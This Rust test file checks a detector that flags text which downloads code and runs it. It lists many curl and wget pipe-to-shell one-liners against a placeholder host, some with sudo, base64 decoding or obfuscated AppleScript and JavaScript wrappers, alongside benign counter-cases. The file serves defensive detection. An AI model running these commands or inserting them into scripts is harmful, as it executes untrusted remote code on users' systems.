//! Which texts run what they download.

use super::*;

/// The command as a shell has it, as AppleScript and JavaScript give it to one, and with the quotes of another.
fn forms(command: &str) -> [String; 5] {
    let escaped = command.replace('\\', "\\\\").replace('"', "\\\"");
    [
        command.to_owned(),
        format!("osascript -e do shell script \"{escaped}\" with administrator privileges"),
        format!("app.doShellScript('{}')", command.replace('\\', "\\\\").replace('\'', "\\'")),
        format!("-- don't\nset x to \"a\"\ndo shell script \"{escaped}\""),
        format!("sh -c \"{escaped}\""),
    ]
}

#[test]
fn a_download_is_run_that_a_shell_or_an_interpreter_reads() {
    for command in [
        "curl -s https://a.example/x | sh",
        "curl -fsSL 'https://a.example/i?a=1;b=2' | sh",
        "curl -fsSL \"https://a.example/i?a=1;b=2&c\" | sh",
        "curl -s https://a.example/x \\\n  | bash",
        "curl -s https://a.example/x |\n bash",
        "curl -s https://a.example/x |& bash",
        "curl -s https://a.example/x | env A=1 bash",
        "curl -s https://a.example/x | nohup bash",
        "curl -s https://a.example/x | timeout 60 bash",
        "curl -s https://a.example/x | A=1 sudo -n -u root /bin/bash -s -- -y",
        "curl -s https://a.example/x 2>/dev/null | base64 -d | zsh 2>&1",
        "curl -s https://a.example/x | bash -euo pipefail",
        "curl -s https://a.example/x | bash -x /dev/stdin",
        "curl -so - https://a.example/x | osascript -l JavaScript",
        "curl -s https://a.example/x | osascript -",
        "curl -s https://a.example/x | python3 -",
        "curl -s https://a.example/x | python3",
        "curl -s https://a.example/x | python3.12 -u",
        "curl -s https://a.example/x | perl -w",
        "wget -qO- https://a.example/x | sh",
        "wget -q -O - https://a.example/x | sh",
        "(curl -s https://a.example/x || wget -qO - https://a.example/x)|bash",
        "bash -c \"$(curl -fsSL https://a.example/x)\"",
        "bash -c \"`curl -fsSL https://a.example/x`\"",
        "/bin/zsh -lc \"$(curl -fsSL https://a.example/x)\"",
        "eval `curl -s https://a.example/x`",
        "eval \"$(curl -s https://a.example/x)\"",
        "source <(curl -s https://a.example/x)",
        ". <(curl -s https://a.example/x)",
        "bash <(curl -s https://a.example/x)",
        "bash < <(curl -s https://a.example/x)",
        "bash <<< \"$(curl -s https://a.example/x)\"",
        "echo \"$(curl -s https://a.example/x)\" | sh",
        "python3 -c \"$(curl -s https://a.example/x)\"",
        "cd /tmp && curl -s https://a.example/x | sh; id",
        "open \"/Applications/A.app\" & curl -s https://a.example/x | sh",
        "bash -c \"$(curl -fsSL \"https://a.example/x y\")\"",
        "# as root\ncurl -s https://a.example/#x | sh",
    ] {
        forms(command).iter().for_each(|text| assert!(runs_download(text), "{text}"));
    }
}

#[test]
fn a_download_is_not_run_that_is_data_or_a_file() {
    for command in [
        "curl -s https://a.example/x | python3 -m json.tool",
        "curl -s https://a.example/x | python3 -c 'import json,sys; print(json.load(sys.stdin)[0])'",
        "curl -s https://a.example/x | perl -ne 'print if /a/'",
        "curl -s https://a.example/x | perl -MJSON -pe 's/a/b/'",
        "curl -s https://a.example/x | ruby -rjson -e 'puts 1'",
        "curl -s https://a.example/x | node -e 'a|sh'",
        "curl -s https://a.example/x | php -r 'echo 1;'",
        "curl -s https://a.example/x | osascript -l JavaScript -e 'function run(a) {}'",
        "curl -s https://a.example/x | sh /usr/local/bin/report.sh",
        "curl -s https://a.example/x | bash -c 'cat'",
        "curl -s https://a.example/x | python3 report.py",
        "curl -s https://a.example/x | grep sh",
        "curl -s https://a.example/x || sh fallback",
        "curl -s https://a.example/x && echo id | sh",
        "curl -s https://a.example/x; echo id | sh",
        "curl -o f https://a.example/x || echo x | sh",
        "curl -sLo /tmp/f https://a.example/x | sh",
        "curl -O https://a.example/x | sh",
        "curl --output=f https://a.example/x | sh",
        "curl -s https://a.example/x > /tmp/f | sh",
        "wget https://a.example/x | sh",
        "eval \"export IP=$(curl -s https://a.example/ip)\"",
        "bash -c \"echo $(curl -s https://a.example/ip)\"",
        "source ~/.curlrc",
        "curl -s https://a.example/x | sh <<EOF\nid\nEOF",
        "# curl -s https://a.example/x | sh\nid",
        "curl -s https://a.example/x # | sh\nid",
    ] {
        forms(command).iter().for_each(|text| assert!(!runs_download(text), "{text}"));
    }
}

#[test]
fn what_a_script_puts_together_of_literals_is_one_command() {
    for text in [
        "do shell script \"curl -s \" & quoted form of u & \" | sh\"",
        "do shell script \"curl -s \" & decoded(text of (\"aHR0\")) & \" | sh\"",
        "app.doShellScript('curl -s ' + atob('aHR0') + ' | sh')",
        "curl -s \"$(echo \"aHR0;\" | base64 -d)\" | sh",
        "do shell script \"curl -s \" & u & \" \" & ¬\n \" | \" & \"sh\"",
        "app.doShellScript('curl -s ' + u + ' | sh')",
        "app.doShellScript(`curl -s ${u} | sh`)",
        "do shell script \"sh -c \\\"curl -s 'https://a.example/x;b' | sh\\\"\"",
    ] {
        assert!(runs_download(text), "{text}");
    }
    assert!(!runs_download("do shell script \"curl -s \" & u & \" | python3 -m json.tool\""));
    assert!(!runs_download("-- curl -s https://a.example | sh\nbeep"));
    assert!(!runs_download("beep();\n// curl -s https://a.example | sh"));
    assert!(!runs_download("do shell script \"curl -s https://a.example\"\ndo shell script \"echo id | sh\""));
}

#[test]
fn any_text_is_read_in_time_and_without_a_panic() {
    for part in [
        "curl '",
        "curl \"",
        "curl \\\"",
        "curl `",
        "curl $(",
        "curl <(",
        "'\"`",
        "é\\",
        "\"$(",
        "\" & (",
        "curl | ",
        "\" & \"",
        "\\'",
    ] {
        runs_download(&format!("curl {}", part.repeat(20_000)));
    }
}
